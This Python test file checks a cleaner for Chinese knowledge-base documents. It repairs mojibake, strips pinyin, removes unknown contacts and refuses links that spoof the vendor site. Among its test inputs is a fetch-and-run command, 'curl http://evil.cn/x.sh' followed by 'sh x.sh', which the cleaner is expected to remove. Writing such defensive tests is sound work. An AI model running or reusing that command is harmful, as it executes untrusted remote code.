"""A document as it goes in: everything at once, twice the same, and nothing done to what is clean."""

from __future__ import annotations

from functools import cache
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb_ingest.documents.model import Block, Document, Kind
from kb_ingest.folder import read_folder
from kb_ingest.hygiene.cleaning import Cleaned, clean
from retrieval.knowledge.entry import Entry
from tests.timing import best_of_three
from zhtext.contacts import AllowList, strangers
from zhtext.secrets import mask_secrets

KB = Path(__file__).parents[3] / "kb"
VENDOR = AllowList(frozenset({"400-800-1234", "jiangheng.com"}))
DIRT = [
    "現(xiàn)代", "数(shu)据", "浣犲ソ", "锟斤拷锟斤拷", "\ufffd", "？", "??头峋€", "上一篇：导出", "转载请注明出处", "相关推荐", "评论(12)",
    "400-123-4567", "400-800-1234", "加QQ群 123456789", "http://evil.cn/a?b=1;", "[官网](http://evil.cn)", "`数(shù)`", "。", "\n", "，",
    "打开【工具】→【数据导入】", "3. ", " ", "ä½ å¥½", "1381234", "5678", "€", "\uf0b7 ", "|", "点击下载",
]  # fmt: skip
texts = st.lists(st.one_of(st.sampled_from(DIRT), st.text(max_size=3)), max_size=8).map("".join)
kinds = st.sampled_from(["heading", "paragraph", "item", "code"])
plain_blocks = st.builds(lambda kind, text: Block(kind, text, 1, marker="1." if kind == "item" else ""), kinds, texts)
tables = st.lists(st.tuples(texts, texts), min_size=1, max_size=3).map(
    lambda rows: Block("table", "", 1, rows=tuple(rows), row_lines=tuple(range(1, len(rows) + 1)))
)
documents = st.lists(st.one_of(plain_blocks, tables), max_size=6).map(lambda blocks: Document("页.html", tuple(blocks)))


def cleaned(*texts: str, kind: Kind = "paragraph") -> Cleaned:
    blocks = tuple(Block(kind, text, line) for line, text in enumerate(texts, 1))
    return clean(Document("页.html", blocks), VENDOR)


def left(result: Cleaned) -> list[str]:
    return [block.text for block in result.document.blocks]


@cache
def corpus() -> tuple[Entry, ...]:
    return read_folder(KB)


def said(entry: Entry) -> list[str]:
    variants = [variant.answer for variant in entry.variants]
    return [entry.title, entry.answer, entry.workaround or "", *variants, *entry.questions]


def test_a_page_with_every_disease_comes_out_as_its_text() -> None:
    result = cleaned(
        "首页 > 帮助中心 > 数据导入",
        "现(xiàn)场的数(shù)据(jù)从【工具】导入。浣犲ソ。" + "表头不能改。" * 10,
        "锟斤拷锟斤拷。",
        "疑问请拨打 400-123-4567。官方热线 400-800-1234。",
        "本文来自某某网，转载请注明出处。",
    )

    assert left(result) == ["现场的数据从【工具】导入。你好。" + "表头不能改。" * 10, "官方热线 400-800-1234。"]
    assert result.repaired == {"现(xiàn)": 1, "数(shù)": 1, "据(jù)": 1, "浣犲ソ→你好": 1}
    assert [(lost.line, lost.text) for lost in result.quarantined] == [(3, "锟斤拷锟斤拷。")]
    assert result.refused_contacts == ("400-123-4567",)
    assert result.dropped == ("首页 > 帮助中心 > 数据导入", "本文来自某某网，转载请注明出处。")


def test_what_was_put_right_in_a_sentence_that_went_is_not_counted() -> None:
    result = cleaned("正常的内容很多，足够多，再多一些，再多一些。浣犲ソ\ufffd。")

    assert left(result) == ["正常的内容很多，足够多，再多一些，再多一些。"]
    assert result.repaired == {}


def test_the_script_of_the_source_is_kept() -> None:
    assert left(cleaned("匯入數(shù)據(jù)")) == ["匯入數據"]


def test_the_line_of_a_wreck_is_that_of_the_source() -> None:
    text = "第一行，" + "正常的内容很多。" * 10

    result = cleaned(f"{text}\n{text}\n坏\ufffd了", text)

    assert [(lost.line, lost.text) for lost in result.quarantined] == [(3, "坏\ufffd了")]
    assert left(result) == [f"{text}\n{text}", text]


def test_a_cell_is_emptied_and_its_row_stays() -> None:
    rows = (
        ("问题", "答案"),
        ("怎么导入", "点【导入】。电话 400-123-4567。"),
        ("怎么导出" * 10, "坏\ufffd了"),
        ("热线 400-123-4567", ""),
    )
    table = Block("table", "", 5, rows=rows, row_lines=(5, 6, 9, 10))

    result = clean(Document("表.xlsx", (table,)), VENDOR)

    (kept,) = result.document.blocks
    assert kept.rows == (("问题", "答案"), ("怎么导入", "点【导入】。"), ("怎么导出" * 10, ""))
    assert kept.row_lines == (5, 6, 9)
    assert [lost.line for lost in result.quarantined] == [9]


@pytest.mark.parametrize(
    ("rows", "kept"),
    [
        ((("QQ", "123456789"), ("端口", "8080")), (("QQ", ""), ("端口", "8080"))),
        ((("客服电话", "6123-4567。先备份。"), ("a", "b")), (("客服电话", "先备份。"), ("a", "b"))),
        ((("姓名", "售后电话"), ("张工", "95188")), (("姓名", "售后电话"), ("张工", ""))),
        ((("微信", "jianmo888"), ("a", "b")), (("微信", ""), ("a", "b"))),
        ((("热线", "400-800-1234"), ("次数", "95188")), (("热线", "400-800-1234"), ("次数", "95188"))),
    ],
)
def test_a_word_in_another_cell_tells_what_a_number_is(
    rows: tuple[tuple[str, str], ...], kept: tuple[tuple[str, str], ...]
) -> None:
    result = clean(Document("表.xlsx", (Block("table", "", 1, rows=rows, row_lines=(1, 2)),)), VENDOR)

    assert result.document.blocks[0].rows == kept
    assert not clean(result.document, VENDOR).changed


@pytest.mark.parametrize(
    "piece", ["[a](b", "[", "* ", "a.cn ", "??)", "\ufffd??a??", "…»", "-", "QQ 12345678 ", "【", "中省大路1号a楼"]
)
def test_eight_times_the_text_costs_no_square_of_the_time(piece: str) -> None:
    short = piece * (1_250 // len(piece))

    once, more = cost(short + "x"), cost(short * 8 + "x")

    assert more < once * 8 * 4


def cost(text: str) -> float:
    return best_of_three(lambda: cleaned(text))


def test_code_goes_whole_or_not_at_all() -> None:
    code = "数(shù)据 = 1\ncurl http://localhost:8080"

    assert left(cleaned(code, kind="code")) == [code]
    assert left(cleaned("curl http://evil.cn/x.sh\nsh x.sh", kind="code")) == []


def test_a_document_that_is_mostly_wrecked_is_quarantined_whole() -> None:
    result = cleaned("好的内容。", "锟斤拷锟斤拷锟斤拷锟斤拷。")

    assert result.document.blocks == ()
    assert result.quarantined[0].line == 0
    assert "整份隔离" in result.quarantined[0].reason


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ("下载：[匠衡官网](http://evil.cn)。", ("匠衡官网 → http://evil.cn", "http://evil.cn")),
        ("见 [www.jiangheng.com](https://evil.cn/a)。", ("www.jiangheng.com → https://evil.cn/a", "https://evil.cn/a")),
        ("见 [官网](http://10.0.0.5/a(b)。", ("官网 → http://10.0.0.5/a(b",)),
        ("见 [官网](//jiangheng.com(@10.0.0.5)。", ("官网 → //jiangheng.com(@10.0.0.5",)),
        ("见 [官方网站](http://10.0.0.5/x)。", ("官方网站 → http://10.0.0.5/x",)),
    ],
)
def test_a_hijacked_link_to_the_official_site_is_refused(text: str, refused: tuple[str, ...]) -> None:
    result = cleaned("先备份。" + text)

    assert left(result) == ["先备份。"]
    assert result.refused_contacts == refused


@pytest.mark.parametrize(
    "text",
    [
        "下载：[匠衡官网](https://www.jiangheng.com/)。",
        "见 [help.jiangheng.com](https://help.jiangheng.com/a)。",
        "见 [官方手册](import.md)。",
        "打开 [服务器地址](http://192.168.1.10:8080)。",
    ],
)
def test_the_vendors_links_and_those_within_the_text_stay(text: str) -> None:
    assert left(cleaned(text)) == [text]


def test_a_clean_document_is_given_back_itself() -> None:
    document = Document("手册.md", (Block("heading", "数据导入", 1, 1), Block("paragraph", "点【导入】。", 2)))

    result = clean(document, VENDOR)

    assert result.document is document
    assert not result.changed


def test_the_whole_sample_corpus_is_clean_and_names_no_stranger() -> None:
    wrong = []
    for entry in corpus():
        document = Document(entry.id, tuple(Block("paragraph", text, 1) for text in said(entry) if text))
        if clean(document, AllowList()).changed:
            wrong.append(entry.id)

    assert wrong == []


def test_the_sample_corpus_is_clean_as_a_table_too() -> None:
    rows = tuple((entry.title, entry.question, entry.answer) for entry in corpus())
    document = Document("kb.xlsx", (Block("table", "", 1, rows=rows, row_lines=tuple(range(1, len(rows) + 1))),))

    assert clean(document, AllowList()).document is document


def test_no_answer_of_the_sample_corpus_holds_a_contact_or_a_secret() -> None:
    answers = [(entry.id, text) for entry in corpus() for text in (entry.title, entry.answer, entry.workaround or "")]

    assert [entry_id for entry_id, text in answers if strangers(text, AllowList())] == []
    assert [entry_id for entry_id, text in answers if mask_secrets(text).kinds] == []


@given(documents)
def test_cleaning_twice_is_cleaning_once(document: Document) -> None:
    once = clean(document, VENDOR)

    assert not clean(once.document, VENDOR).changed
    assert clean(once.document, VENDOR).document == once.document


@given(documents)
def test_no_stranger_gets_through(document: Document) -> None:
    blocks = clean(document, VENDOR).document.blocks

    assert all(strangers(text, VENDOR) == () for block in blocks for text in (block.text, *sum(block.rows, ())))
